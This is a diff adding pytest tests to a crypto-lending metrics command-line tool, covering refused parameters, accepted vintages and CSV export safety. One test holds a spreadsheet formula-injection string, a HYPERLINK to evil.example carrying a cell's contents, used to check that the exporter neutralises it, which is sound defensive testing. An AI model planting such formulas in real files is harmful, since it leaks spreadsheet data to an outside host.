@@ -1,8 +1,10 @@
-"""The command line: metrics JSON and table, export, sources, build."""
+"""The command line: metrics JSON and table, refused parameters, export, sources, build."""
 
 from __future__ import annotations
 
+import csv
 import json
+from datetime import date
 
 import pyarrow.parquet as pq
 import pytest
@@ -61,6 +63,42 @@ def test_metrics_table_and_bad_arguments():
     assert bad.exit_code == 2 and "not a date" in bad.output
 
 
+@pytest.mark.parametrize(
+    ("args", "flag", "needle"),
+    [
+        (["metrics", "--period", "2019Q1"], "--period", "2019Q1 has no data at vintage"),
+        (["metrics", "--period", "2024Q2"], "--period", "(nearest: 2023Q4, 2024Q4;"),
+        (["metrics", "--vintage", "2001-01-01"], "--vintage", "earliest is 2022-05-31"),
+        (["metrics", "--vintage", "9999-12-31"], "--vintage", "9999-12-31 is in the future"),
+        # after the first figure, before any quarter's size is known
+        (["metrics", "--vintage", "2022-06-01"], "--vintage", "no quarter has data at vintage"),
+        (["metrics", "--period", "2021Q4", "--since", "2025Q3"], "--since", "not before"),
+        (["metrics", "--period", "2024Q4", "--since", "2024Q4"], "--since", "not before"),
+        (["metrics", "--since", "2025Q3"], "--since", "2025Q3 is not before the period 2025Q3"),
+        (["metrics", "--since", "2019Q4"], "--since", "quarters with data: 2021Q4-2022Q1, 2022Q4,"),
+        (["metrics", "--period", "2024Q4", "--vintage", "2025-04-14", "--since", "2025Q1"],
+         "--since", "2025Q1 has no data at vintage 2025-04-14"),
+        (["report", "--no-pdf", "--out", "{tmp}", "--period", "2019Q1"], "--period", "no data"),
+        (["report", "--no-pdf", "--out", "{tmp}", "--vintage", "9999-12-31"], "--vintage",
+         "in the future"),
+        (["export", "--out", "{tmp}", "--vintage", "2022-01-01"], "--vintage", "earliest is"),
+    ],
+)  # fmt: skip
+def test_refused_parameters_exit_1_naming_the_flag(tmp_path, args, flag, needle):
+    """A well-formed value without data is refused on stderr, never printed as nulls."""
+    res = run(*(a.format(tmp=tmp_path / "out") for a in args))
+    assert res.exit_code == 1, res.output
+    assert res.stdout == "" and not (tmp_path / "out").exists()
+    assert res.stderr.startswith(f"Invalid value for {flag}: ") and needle in res.stderr
+
+
+def test_accepted_vintages_and_since():
+    today = run("metrics", "--vintage", date.today().isoformat(), "--since", "2024Q4")
+    assert today.exit_code == 0, today.output
+    d = json.loads(today.stdout)
+    assert d["period"] == "2025Q3" and d["growth_since"]["from"] == "2024Q4"
+
+
 @pytest.mark.parametrize("fmt", ["parquet", "csv", "json"])
 def test_export(tmp_path, fmt):
     res = run("export", "--format", fmt, "--out", str(tmp_path))
@@ -100,6 +138,34 @@ def test_build_then_metrics_use_the_database(tmp_path):
     d = json.loads(run("metrics", "--period", "2025Q4", "--db", str(db)).stdout)
     assert d["cefi_usd"] == 20e9
     assert d["cefi_top3"][0] == {"platform": "Tether", "usd": 17e9, "share": 0.85, "members": 1}
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"details")'
+
+
+def test_csv_export_neutralises_formulas_in_user_rows(tmp_path):
+    """A user-added note that a spreadsheet would run is written as text; numbers stay numbers."""
+    user = tmp_path / "acme.csv"
+    head = "period,segment,platform,chain,metric,value_usd,source_id,method,published,note"
+    row = "2025Q4,cefi,Acme,,outstanding_loans_usd,1.5e8,galaxy-2025-04-state-of-crypto-lending,"
+    with user.open("w", newline="") as f:
+        f.write(f"{head}\n{row}estimate,2026-02-15,")
+        csv.writer(f).writerow([FORMULA])
+    db = tmp_path / "l.duckdb"
+    assert run("build", "--add", str(user), "--db", str(db)).exit_code == 0
+    out = tmp_path / "csv"
+    res = run("export", "--format", "csv", "--out", str(out), "--db", str(db))
+    assert res.exit_code == 0, res.output
+    with (out / "observations.csv").open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    acme = next(r for r in rows if r["platform"] == "Acme")
+    assert acme["note"] == "'" + FORMULA and acme["value_usd"] == "150000000"
+    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    raw = (out / "metrics_quarterly.csv").read_text()
+    assert "'" not in raw  # numbers (negative drawdowns too) are not quoted
+    res = run("export", "--format", "json", "--out", str(tmp_path / "json"), "--db", str(db))
+    obs = json.loads((tmp_path / "json" / "observations.json").read_text())
+    assert next(r for r in obs if r["platform"] == "Acme")["note"] == FORMULA  # JSON is data
 
 
 @pytest.mark.spark
